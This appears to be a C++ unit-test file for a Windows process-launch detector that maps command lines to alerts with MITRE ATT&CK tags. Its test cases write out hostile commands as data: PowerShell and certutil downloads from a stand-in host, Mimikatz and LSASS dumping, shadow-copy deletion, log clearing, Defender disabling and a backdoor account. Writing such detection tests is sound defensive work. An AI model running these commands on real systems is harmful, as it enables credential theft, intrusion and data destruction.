#include "proc/launch.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "procmeta/procmeta_fake.h"
#include "testsupport/alert_collector.h"

namespace tarnwick {
namespace {

using testing::FakeProcessQuery;
using testing::FakeSignatureCheck;

using Collected = testing::AlertCollector;

class Rules : public ::testing::Test {
 protected:
  std::vector<Alert> run(uint32_t pid, std::string image, std::string_view parent,
                         std::string command_line) {
    Collected out;
    evaluator_.evaluate_with_parent({pid, 0, std::move(image), std::move(command_line)}, parent,
                                    out);
    return std::move(out.alerts);
  }
  std::vector<std::string> keys(uint32_t pid, std::string image, std::string_view parent,
                                std::string command_line) {
    std::vector<std::string> out;
    for (const Alert& a : run(pid, std::move(image), parent, std::move(command_line))) {
      out.push_back(a.dedup_key);
    }
    return out;
  }

  FakeProcessQuery query_;
  FakeSignatureCheck trust_;
  LaunchEvaluator evaluator_{query_, trust_};
};

using Keys = std::vector<std::string>;

TEST_F(Rules, EachRuleFiresOnItsPatternAndNotOnANearMiss) {
  struct Case {
    const char* name;
    std::string image;
    std::string parent;
    std::string cmd;
    Keys expected;
  };
  const Case cases[] = {
      {"1 tunnel tool", R"(C:\Tools\cloudflared.exe)", "explorer.exe",
       "cloudflared.exe tunnel run", {"proc-tunnel:cloudflared.exe:7"}},
      {"1 miss: not the exact name", R"(C:\Tools\ngrok.exe.bak)", "explorer.exe", "", {}},
      {"2 script host under a mail client", R"(C:\Windows\System32\wscript.exe)", "OUTLOOK.EXE",
       R"(wscript.exe C:\Users\bob\invoice.js)", {"loltbin:outlook.exe->wscript.exe:7"}},
      {"2 miss: the same child under the shell", R"(C:\Windows\System32\wscript.exe)",
       "explorer.exe", R"(wscript.exe C:\Users\bob\invoice.js)", {}},
      {"2 miss: a harmless child of a document reader", R"(C:\Windows\notepad.exe)",
       "winword.exe", "notepad.exe", {}},
      {"3 download cradle", R"(C:\Program Files\PowerShell\7\pwsh.exe)", "explorer.exe",
       "pwsh.exe -c IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')",
       {"psenc:7"}},
      {"3 miss: a plain script", R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
       "explorer.exe", R"(powershell.exe -NoProfile -File C:\scripts\backup.ps1)", {}},
      {"3 miss: the pattern outside PowerShell", R"(C:\Windows\System32\cmd.exe)",
       "explorer.exe", "cmd.exe /c echo -enc", {}},
      {"4 psexec service", R"(C:\Windows\PSEXESVC.exe)", "services.exe", "", {"psexec:7"}},
      {"4 miss: a similar name", R"(C:\Tools\psexecutor.exe)", "cmd.exe", "", {}},
      {"5 WMI runs a shell", R"(C:\Windows\System32\cmd.exe)", "WmiPrvSE.exe",
       R"(cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1700000000.5 2>&1)", {"wmiexec:7"}},
      {"5 miss: WMI runs a harmless child", R"(C:\Windows\notepad.exe)", "wmiprvse.exe", "",
       {}},
      {"6 rundll32 opens a URL", R"(C:\Windows\System32\rundll32.exe)", "explorer.exe",
       "rundll32.exe url.dll,FileProtocolHandler http://x.test/", {"rundll32:7"}},
      {"6 miss: printer setup", R"(C:\Windows\System32\rundll32.exe)", "explorer.exe",
       R"(rundll32.exe C:\Windows\System32\printui.dll,PrintUIEntry /il)", {}},
      {"7 remote scriptlet", R"(C:\Windows\System32\regsvr32.exe)", "cmd.exe",
       "regsvr32.exe /s /n /u /i:http://x.test/file.sct scrobj.dll", {"regsvr32:7"}},
      {"7 miss: silent local registration (first group only)",
       R"(C:\Windows\System32\regsvr32.exe)", "explorer.exe", "regsvr32.exe /s vbscript.dll",
       {}},
      {"8 local HTA", R"(C:\Windows\System32\mshta.exe)", "explorer.exe",
       R"(mshta.exe C:\Users\bob\Downloads\update.hta)", {"mshta:7"}},
      {"8 miss: no script", R"(C:\Windows\System32\mshta.exe)", "explorer.exe", "mshta.exe", {}},
      {"9 BITS download", R"(C:\Windows\System32\bitsadmin.exe)", "explorer.exe",
       R"(bitsadmin.exe /addfile job http://x.test/a C:\a)", {"bits:7"}},
      {"9 miss: listing jobs", R"(C:\Windows\System32\bitsadmin.exe)", "explorer.exe",
       "bitsadmin.exe /list /allusers", {}},
      {"10 certutil decode", R"(C:\Windows\System32\certutil.exe)", "explorer.exe",
       "certutil.exe -decode payload.b64 payload.exe", {"certutil:7"}},
      {"10 miss: hashing a file", R"(C:\Windows\System32\certutil.exe)", "explorer.exe",
       "certutil.exe -hashfile setup.exe SHA256", {}},
      {"11b Clear-EventLog", R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
       "explorer.exe", "powershell.exe Clear-EventLog -LogName Security", {"logclear:7"}},
      {"11c .ClearLog", R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
       "explorer.exe",
       "powershell.exe [Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('"
       "System')",
       {"logclear:7"}},
      {"11d wevtutil through cmd", R"(C:\Windows\System32\cmd.exe)", "explorer.exe",
       "cmd.exe /c wevtutil cl System", {"logclear:7"}},
      {"11 miss: querying a log", R"(C:\Windows\System32\wevtutil.exe)", "explorer.exe",
       "wevtutil.exe qe Security /c:5", {}},
      {"12b wmic shadowcopy delete", R"(C:\Windows\System32\wbem\WMIC.exe)", "cmd.exe",
       "wmic.exe shadowcopy delete /nointeractive", {"norecovery:7"}},
      {"12d bcdedit recovery off", R"(C:\Windows\System32\bcdedit.exe)", "cmd.exe",
       "bcdedit.exe /set {default} recoveryenabled No", {"norecovery:7"}},
      {"12e wbadmin delete", R"(C:\Windows\System32\wbadmin.exe)", "cmd.exe",
       "wbadmin.exe delete catalog -quiet", {"norecovery:7"}},
      {"12 miss: listing shadows", R"(C:\Windows\System32\vssadmin.exe)", "cmd.exe",
       "vssadmin.exe list shadows", {}},
      {"13 new user", R"(C:\Windows\System32\net1.exe)", "net.exe", "net1.exe user bob Pw1! /add",
       {"acctadd:7"}},
      {"13 admin added", R"(C:\Windows\System32\net.exe)", "cmd.exe",
       "net.exe localgroup administrators bob /add", {"acctadd:7"}},
      {"13 miss: only listing the group", R"(C:\Windows\System32\net.exe)", "cmd.exe",
       "net.exe localgroup administrators", {}},
      {"14 auto-elevating parent", R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
       "ComputerDefaults.exe", "powershell.exe", {"uacbypass:7"}},
      {"14 miss: harmless child", R"(C:\Windows\notepad.exe)", "fodhelper.exe", "", {}},
      {"15 UAC off via reg", R"(C:\Windows\System32\reg.exe)", "cmd.exe",
       R"(reg.exe add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0 /f)",
       {"disablesec:7"}},
      {"15 Defender off via PowerShell",
       R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "explorer.exe",
       "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", {"disablesec:7"}},
      {"15 miss: reading the UAC value", R"(C:\Windows\System32\reg.exe)", "cmd.exe",
       R"(reg.exe query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA)",
       {}},
      {"15 miss: the word outside a registry tool", R"(C:\Windows\notepad.exe)", "explorer.exe",
       "notepad.exe disabletaskmgr.txt", {}},
      {"16 script consumer", R"(C:\Windows\System32\wbem\WMIC.exe)", "cmd.exe",
       R"(wmic /namespace:\\root\subscription path ActiveScriptEventConsumer create name=x)",
       {"wmipersist:7"}},
      {"16 wmic create consumer", R"(C:\Windows\System32\wbem\WMIC.exe)", "cmd.exe",
       "wmic.exe process call create consumer.exe", {"wmipersist:7"}},
      {"16 miss: wmic create without consumer", R"(C:\Windows\System32\wbem\WMIC.exe)",
       "cmd.exe", "wmic.exe process call create notepad.exe", {}},
      {"17 lsadump in PowerShell",
       R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "explorer.exe",
       "powershell.exe Invoke-Mimikatz -Command lsadump::sam", {"creddump:7"}},
      {"17 name through full lower-casing (Kelvin sign)", "C:\\Tools\\MIMI\u212A" "ATZ.EXE",
       "explorer.exe", "", {"creddump:7"}},
      {"17 miss: the word in a file name", R"(C:\Windows\notepad.exe)", "explorer.exe",
       R"(notepad.exe C:\notes\mimikatz-notes.txt)", {}},
      {"18 comsvcs MiniDump (also rundll32 from temp)", R"(C:\Windows\System32\rundll32.exe)",
       "cmd.exe", R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full)",
       {"rundll32:7", "lsassdump:7"}},
      {"18 miss: only naming lsass", R"(C:\Windows\System32\tasklist.exe)", "cmd.exe",
       R"(tasklist.exe /fi "imagename eq lsass.exe")", {}},
      {"19 unsigned .com in temp", R"(C:\Users\bob\AppData\Local\Temp\setup.com)",
       "explorer.exe", "", {R"(susloc:C:\Users\bob\AppData\Local\Temp\setup.com)"}},
      {"19 miss: outside the drop folders", R"(C:\Users\bob\Documents\setup.com)",
       "explorer.exe", "", {}},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    EXPECT_EQ(keys(7, c.image, c.parent, c.cmd), c.expected);
  }
}

// Every text written out in full, so that a changed word in any rule shows.
TEST_F(Rules, CompleteAlertOfEveryRule) {
  struct Case {
    std::string image;
    std::string parent;
    std::string cmd;
    uint32_t pid;
    Severity severity;
    std::string title;
    std::string detail;
    std::string key;
  };
  const Case cases[] = {
      {R"(C:\Tools\ngrok.exe)", "explorer.exe", "ngrok.exe http 8080", 1001, Severity::High,
       "Tunnel / RAT process launched",
       "ngrok.exe started (pid 1001, parent explorer.exe).\n\n"
       "MITRE ATT&CK: T1572 (Protocol Tunneling)  \u00B7  CVSS 7.5 (High)",
       "proc-tunnel:ngrok.exe:1001"},
      {R"(C:\Windows\System32\cmd.exe)", "WINWORD.EXE", "cmd.exe /c whoami", 1002,
       Severity::Critical, "Suspicious child process (possible exploit)",
       "winword.exe spawned cmd.exe (pid 1002). Cmdline: cmd.exe /c whoami\n\n"
       "MITRE ATT&CK: T1059 (Command & Scripting Interpreter)  \u00B7  CVSS 8.8 (High)",
       "loltbin:winword.exe->cmd.exe:1002"},
      {R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "explorer.exe",
       "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA", 1003, Severity::High,
       "Obfuscated / download PowerShell",
       "pid 1003: powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA\n\n"
       "MITRE ATT&CK: T1059.001 (PowerShell)  \u00B7  CVSS 7.5 (High)",
       "psenc:1003"},
      {R"(C:\Tools\PsExec64.exe)", "cmd.exe", R"(PsExec64.exe \\srv01 -s cmd.exe)", 1004,
       Severity::High, "PsExec lateral-movement tool",
       "psexec64.exe (pid 1004, parent cmd.exe) \u2014 remote execution via PsExec "
       "(T1021.002).\n\n"
       "MITRE ATT&CK: T1021.002 (SMB/Admin Shares)  \u00B7  CVSS 8.0 (High)",
       "psexec:1004"},
      {R"(C:\Windows\System32\cmd.exe)", "WmiPrvSE.exe", "cmd.exe /Q /c whoami", 1005,
       Severity::High, "WMI remote execution",
       "WmiPrvSE spawned cmd.exe (pid 1005) \u2014 remote command execution via WMI (T1047 / "
       "lateral movement).\n\n"
       "MITRE ATT&CK: T1047 (WMI)  \u00B7  CVSS 8.0 (High)",
       "wmiexec:1005"},
      {R"(C:\Windows\System32\rundll32.exe)", "explorer.exe",
       R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1))", 1006,
       Severity::High, "Rundll32 abuse (proxy execution)",
       "rundll32 (pid 1006) ran a suspicious command line: "
       R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1))"
       "\n\nMITRE ATT&CK: T1218.011 (Rundll32)  \u00B7  CVSS 7.7 (High)",
       "rundll32:1006"},
      {R"(C:\Windows\System32\regsvr32.exe)", "explorer.exe",
       "regsvr32.exe /s /n /u /i:http://x.test/file.sct scrobj.dll", 1007, Severity::High,
       "Regsvr32 scriptlet execution (Squiblydoo)",
       "regsvr32 (pid 1007): regsvr32.exe /s /n /u /i:http://x.test/file.sct scrobj.dll\n\n"
       "MITRE ATT&CK: T1218.010 (Regsvr32)  \u00B7  CVSS 7.7 (High)",
       "regsvr32:1007"},
      {R"(C:\Windows\System32\mshta.exe)", "explorer.exe", "mshta.exe http://x.test/p.hta", 1008,
       Severity::High, "Mshta script execution",
       "mshta (pid 1008): mshta.exe http://x.test/p.hta\n\n"
       "MITRE ATT&CK: T1218.005 (Mshta)  \u00B7  CVSS 7.5 (High)",
       "mshta:1008"},
      {R"(C:\Windows\System32\bitsadmin.exe)", "explorer.exe",
       R"(bitsadmin.exe /transfer job http://x.test/a.exe C:\a.exe)", 1009, Severity::High,
       "BITS job abuse (stealth download)",
       R"(bitsadmin (pid 1009): bitsadmin.exe /transfer job http://x.test/a.exe C:\a.exe)"
       "\n\nMITRE ATT&CK: T1197 (BITS Jobs)  \u00B7  CVSS 7.0 (High)",
       "bits:1009"},
      {R"(C:\Windows\System32\certutil.exe)", "explorer.exe",
       "certutil.exe -urlcache -split -f http://x.test/a.txt a.exe", 1010, Severity::High,
       "Certutil download/decode (payload staging)",
       "certutil (pid 1010): certutil.exe -urlcache -split -f http://x.test/a.txt a.exe\n\n"
       "MITRE ATT&CK: T1105 (Ingress Tool Transfer)  \u00B7  CVSS 7.0 (High)",
       "certutil:1010"},
      {R"(C:\Windows\System32\wevtutil.exe)", "cmd.exe", "wevtutil.exe cl Security", 1011,
       Severity::High, "Event log cleared (anti-forensics)",
       "wevtutil.exe (pid 1011) cleared Windows event logs \u2014 attackers do this to erase "
       "their tracks. Cmdline: wevtutil.exe cl Security\n\n"
       "MITRE ATT&CK: T1070.001 (Clear Windows Event Logs)  \u00B7  CVSS 6.5 (Medium)",
       "logclear:1011"},
      {R"(C:\Windows\System32\vssadmin.exe)", "cmd.exe", "vssadmin.exe delete shadows /all /quiet",
       1012, Severity::Critical, "Backup / shadow-copy deletion (ransomware prep)",
       "vssadmin.exe (pid 1012) is deleting recovery data (shadow copies / backups) \u2014 the "
       "classic step ransomware takes before encrypting. Cmdline: vssadmin.exe delete shadows "
       "/all /quiet\n\n"
       "MITRE ATT&CK: T1490 (Inhibit System Recovery)  \u00B7  CVSS 8.6 (High)",
       "norecovery:1012"},
      {R"(C:\Windows\System32\net.exe)", "cmd.exe", "net.exe user backdoor P@ssw0rd! /add", 1013,
       Severity::High, "New account / admin added",
       "net.exe (pid 1013) created a user or added one to Administrators \u2014 a common "
       "persistence + privilege move. Cmdline: net.exe user backdoor P@ssw0rd! /add\n\n"
       "MITRE ATT&CK: T1136.001 (Local Account)  \u00B7  CVSS 7.0 (High)",
       "acctadd:1013"},
      {R"(C:\Windows\System32\cmd.exe)", "fodhelper.exe", "cmd.exe", 1014, Severity::Critical,
       "UAC bypass (auto-elevation abuse)",
       "fodhelper.exe spawned cmd.exe (pid 1014) \u2014 a known UAC-bypass chain used to gain "
       "admin without a prompt (T1548.002).\n\n"
       "MITRE ATT&CK: T1548.002 (Bypass UAC)  \u00B7  CVSS 8.2 (High)",
       "uacbypass:1014"},
      {R"(C:\Windows\System32\reg.exe)", "cmd.exe",
       R"(reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f)",
       1015, Severity::Critical, "Security setting disabled via registry",
       "reg.exe (pid 1015) is editing the registry to DISABLE a security feature (Defender / UAC "
       "/ admin tools). Cmdline: "
       R"(reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f)"
       "\n\nMITRE ATT&CK: T1562.001 (Impair Defenses)  \u00B7  CVSS 8.4 (High)",
       "disablesec:1015"},
      {R"(C:\Windows\System32\wbem\WMIC.exe)", "cmd.exe",
       R"(wmic /namespace:\\root\subscription PATH __EventFilter CREATE Name="u")", 1016,
       Severity::High, "WMI event subscription persistence",
       "wmic.exe (pid 1016) is creating a permanent WMI event subscription \u2014 a fileless "
       "persistence + execution technique. Cmdline: "
       R"(wmic /namespace:\\root\subscription PATH __EventFilter CREATE Name="u")"
       "\n\nMITRE ATT&CK: T1546.003 (WMI Event Subscription)  \u00B7  CVSS 7.2 (High)",
       "wmipersist:1016"},
      {R"(C:\Tools\mimikatz.exe)", "cmd.exe",
       R"(mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit)", 1017,
       Severity::Critical, "Credential dumping tool (Mimikatz)",
       R"(pid 1017: mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit)"
       "\n\nMITRE ATT&CK: T1003 (OS Credential Dumping)  \u00B7  CVSS 9.1 (Critical)",
       "creddump:1017"},
      {R"(C:\Tools\procdump64.exe)", "explorer.exe",
       R"(procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp)", 1018,
       Severity::Critical, "LSASS memory dump (credential theft)",
       "procdump64.exe (pid 1018) is dumping LSASS memory \u2014 a direct attempt to steal "
       "Windows credentials (T1003.001). Cmdline: "
       R"(procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp)"
       "\n\nMITRE ATT&CK: T1003.001 (LSASS Memory)  \u00B7  CVSS 9.1 (Critical)",
       "lsassdump:1018"},
      {R"(C:\Users\Public\Invoice.scr)", "explorer.exe", R"("C:\Users\Public\Invoice.scr" /S)",
       1019, Severity::Medium, "Execution from suspicious location",
       "Unsigned invoice.scr ran from a malware-favoured drop folder (parent explorer.exe).\n"
       R"(C:\Users\Public\Invoice.scr)"
       "\n\nMITRE ATT&CK: T1204 (User Execution)  \u00B7  CVSS 5.3 (Medium)",
       R"(susloc:C:\Users\Public\Invoice.scr)"},
  };
  ASSERT_EQ(std::size(cases), 19u);
  for (const Case& c : cases) {
    SCOPED_TRACE(c.title);
    const std::vector<Alert> alerts = run(c.pid, c.image, c.parent, c.cmd);
    ASSERT_EQ(alerts.size(), 1u);
    const Alert& a = alerts[0];
    EXPECT_EQ(a.source, AlertSource::Process);
    EXPECT_EQ(a.severity, c.severity);
    EXPECT_EQ(a.title, c.title);
    EXPECT_EQ(a.detail, c.detail);
    EXPECT_EQ(a.pid, c.pid);
    EXPECT_EQ(a.dedup_key, c.key);
    EXPECT_FALSE(a.remediation.has_value());
    EXPECT_NE(a.ts_unix, 0u);
  }
}

TEST_F(Rules, UpperCaseTunnelToolIsNamedInLowerCase) {
  const auto alerts = run(4242, R"(D:\Tools\NGROK.EXE)", "cmd.exe", "NGROK.EXE tcp 22");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].dedup_key, "proc-tunnel:ngrok.exe:4242");
  EXPECT_TRUE(alerts[0].detail.starts_with("ngrok.exe started (pid 4242, parent cmd.exe)."));
}

TEST_F(Rules, EncodedPowerShellFromWordRaisesTwoAlertsInRuleOrder) {
  const auto alerts = run(
      900, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "WINWORD.EXE",
      "powershell.exe -NoP -NonI -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA");
  ASSERT_EQ(alerts.size(), 2u);
  EXPECT_EQ(alerts[0].severity, Severity::Critical);
  EXPECT_EQ(alerts[0].dedup_key, "loltbin:winword.exe->powershell.exe:900");
  EXPECT_EQ(alerts[1].severity, Severity::High);
  EXPECT_EQ(alerts[1].dedup_key, "psenc:900");
}

TEST_F(Rules, OverlappingPatternsOfOneRuleRaiseItOnce) {
  EXPECT_EQ(keys(5, R"(C:\Windows\System32\rundll32.exe)", "explorer.exe", ""), Keys{});
  EXPECT_EQ(keys(5, R"(C:\Windows\System32\rundll32.exe)", "explorer.exe",
                 R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1))"),
            Keys{"rundll32:5"});
  // Conditions (a) and (c) both hold.
  EXPECT_EQ(keys(5, R"(C:\Windows\System32\vssadmin.exe)", "cmd.exe",
                 "vssadmin.exe delete shadows /all"),
            Keys{"norecovery:5"});
}

TEST_F(Rules, UnknownParentSilencesTheParentRules) {
  struct Case {
    const char* name;
    std::string image;
    std::string parent;
    std::string cmd;
    std::string key_with_parent;
  };
  const Case cases[] = {
      {"2", R"(C:\Windows\System32\cmd.exe)", "winword.exe", "cmd.exe /c calc",
       "loltbin:winword.exe->cmd.exe:3"},
      {"5", R"(C:\Windows\System32\cmd.exe)", "wmiprvse.exe", "cmd.exe /c calc", "wmiexec:3"},
      {"14", R"(C:\Windows\System32\cmd.exe)", "sdclt.exe", "cmd.exe /c calc", "uacbypass:3"},
      {"19 .exe", R"(C:\Users\Public\drop.exe)", "wscript.exe", "",
       R"(susloc:C:\Users\Public\drop.exe)"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    EXPECT_EQ(keys(3, c.image, c.parent, c.cmd), Keys{c.key_with_parent});
    EXPECT_EQ(keys(3, c.image, "", c.cmd), Keys{});
  }
  const auto tunnel = run(3, R"(C:\Tools\frpc.exe)", "", "");
  ASSERT_EQ(tunnel.size(), 1u);
  EXPECT_TRUE(tunnel[0].detail.starts_with("frpc.exe started (pid 3, parent ).\n\n"));
}

// The snapshot fallback gives only a bare image name: no command line, no parent.
TEST_F(Rules, SnapshotLaunchCanOnlyFireTheNameRules) {
  const char* names[] = {"rundll32.exe", "regsvr32.exe", "mshta.exe",   "bitsadmin.exe",
                         "certutil.exe", "wevtutil.exe", "vssadmin.exe", "wmic.exe",
                         "wbadmin.exe",  "net.exe",      "reg.exe",      "powershell.exe",
                         "procdump.exe", "cmd.exe"};
  for (const char* name : names) {
    SCOPED_TRACE(name);
    EXPECT_EQ(keys(9, name, "", ""), Keys{});
  }
  EXPECT_EQ(keys(9, "chisel.exe", "", ""), Keys{"proc-tunnel:chisel.exe:9"});
  EXPECT_EQ(keys(9, "psexec.exe", "", ""), Keys{"psexec:9"});
  EXPECT_EQ(keys(9, "mimikatz.exe", "", ""), Keys{"creddump:9"});
}

TEST_F(Rules, CommandLineExcerptIsCutOnACharacterBoundary) {
  // Rule 2 shows 240 bytes, rule 6 220 and rule 11 200; each fires on a
  // command line that starts with its own prefix.
  struct Rule {
    size_t limit;
    std::string image;
    std::string parent;
    std::string cmd_prefix;
    std::string detail_prefix;
  };
  const Rule rules[] = {
      {240, R"(C:\Windows\System32\cmd.exe)", "winword.exe", "cmd.exe /c ",
       "winword.exe spawned cmd.exe (pid 8). Cmdline: "},
      {220, R"(C:\Windows\System32\rundll32.exe)", "explorer.exe", "rundll32.exe mshtml ",
       "rundll32 (pid 8) ran a suspicious command line: "},
      {200, R"(C:\Windows\System32\wevtutil.exe)", "explorer.exe", "wevtutil.exe cl ",
       "wevtutil.exe (pid 8) cleared Windows event logs \u2014 attackers do this to erase "
       "their tracks. Cmdline: "},
  };
  const std::string e_acute = "\xC3\xA9";  // two bytes
  const std::string euro = "\xE2\x82\xAC";  // three bytes
  for (const Rule& r : rules) {
    const size_t pad = r.limit - r.cmd_prefix.size();
    struct Case {
      const char* name;
      std::string cmd;
      std::string shown;
    };
    const std::string exact = r.cmd_prefix + std::string(pad, 'x');
    const Case cases[] = {
        {"exactly the limit", exact, exact},
        {"one byte over", exact + "y", exact + "\u2026"},
        {"two-byte character across the limit",
         r.cmd_prefix + std::string(pad - 1, 'x') + e_acute + "tail",
         r.cmd_prefix + std::string(pad - 1, 'x') + "\u2026"},
        {"three-byte character across the limit",
         r.cmd_prefix + std::string(pad - 2, 'x') + euro + "tail",
         r.cmd_prefix + std::string(pad - 2, 'x') + "\u2026"},
        {"character ending at the limit", r.cmd_prefix + std::string(pad - 2, 'x') + e_acute + "z",
         r.cmd_prefix + std::string(pad - 2, 'x') + e_acute + "\u2026"},
    };
    for (const Case& c : cases) {
      SCOPED_TRACE(std::to_string(r.limit) + ": " + c.name);
      const auto alerts = run(8, r.image, r.parent, c.cmd);
      ASSERT_EQ(alerts.size(), 1u);
      const std::string& detail = alerts[0].detail;
      const std::string expected = r.detail_prefix + c.shown + "\n\nMITRE ATT&CK: ";
      EXPECT_EQ(detail.substr(0, expected.size()), expected);
    }
  }
}

TEST_F(Rules, PlaceholderTextInTheCommandLineIsNotExpanded) {
  const auto alerts =
      run(12, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "explorer.exe",
          "powershell.exe -enc {pid}{name}{cmd240}{");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_TRUE(alerts[0].detail.starts_with("pid 12: powershell.exe -enc {pid}{name}{cmd240}{\n\n"));
}

TEST_F(Rules, DropFolderRuleAsksForTheSignatureOnlyForCandidates) {
  trust_.signed_paths.insert(R"(C:\Users\Public\signed.scr)");
  struct Case {
    const char* name;
    std::string image;
    std::string parent;
    bool checked;
    bool fires;
  };
  const Case cases[] = {
      {"screensaver, shell parent", R"(C:\Users\Public\x.scr)", "explorer.exe", true, true},
      {"screensaver, no parent", R"(C:\Users\Public\x.scr)", "", true, true},
      {"upper-case .PIF in Windows temp", R"(C:\WINDOWS\Temp\DOC.PIF)", "explorer.exe", true,
       true},
      {"kernel device path", R"(\Device\HarddiskVolume3\Users\Public\x.com)", "", true, true},
      {"signed screensaver", R"(C:\Users\Public\signed.scr)", "explorer.exe", true, false},
      {".exe under a script host", R"(C:\Users\Public\x.exe)", "PowerShell.exe", true, true},
      {".exe under the shell", R"(C:\Users\Public\x.exe)", "explorer.exe", false, false},
      {".exe under a script host, outside drop folders", R"(C:\Tools\x.exe)", "cmd.exe", false,
       false},
      {"library in a drop folder", R"(C:\Users\Public\x.dll)", "cmd.exe", false, false},
      {"screensaver outside drop folders", R"(C:\Windows\System32\Bubbles.scr)", "", false,
       false},
      {"bare snapshot name", "x.scr", "", false, false},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    trust_.checked.clear();
    const Keys got = keys(31, c.image, c.parent, "");
    EXPECT_EQ(trust_.checked, c.checked ? std::vector<std::string>{c.image}
                                        : std::vector<std::string>{});
    EXPECT_EQ(got, c.fires ? Keys{"susloc:" + c.image} : Keys{});
  }
}

TEST(LaunchEvaluator, LooksUpTheParentOnlyWhenItHasAPid) {
  class CountingQuery final : public ProcessQuery {
   public:
    mutable std::vector<uint32_t> asked;
    std::optional<std::string> query_image_path(uint32_t pid) const override {
      asked.push_back(pid);
      if (pid == 77) return R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)";
      return std::nullopt;
    }
  };
  CountingQuery query;
  FakeSignatureCheck trust;
  LaunchEvaluator evaluator(query, trust);
  const std::string image = R"(C:\Windows\System32\cmd.exe)";

  Collected with_parent;
  evaluator.evaluate({50, 77, image, "cmd.exe /c calc"}, with_parent);
  ASSERT_EQ(with_parent.alerts.size(), 1u);
  EXPECT_EQ(with_parent.alerts[0].dedup_key, "loltbin:winword.exe->cmd.exe:50");

  Collected gone;
  evaluator.evaluate({51, 78, image, "cmd.exe /c calc"}, gone);
  EXPECT_TRUE(gone.alerts.empty());

  Collected none;
  evaluator.evaluate({52, 0, image, "cmd.exe /c calc"}, none);
  EXPECT_TRUE(none.alerts.empty());
  EXPECT_EQ(query.asked, (std::vector<uint32_t>{77, 78}));
}

}  // namespace
}  // namespace tarnwick
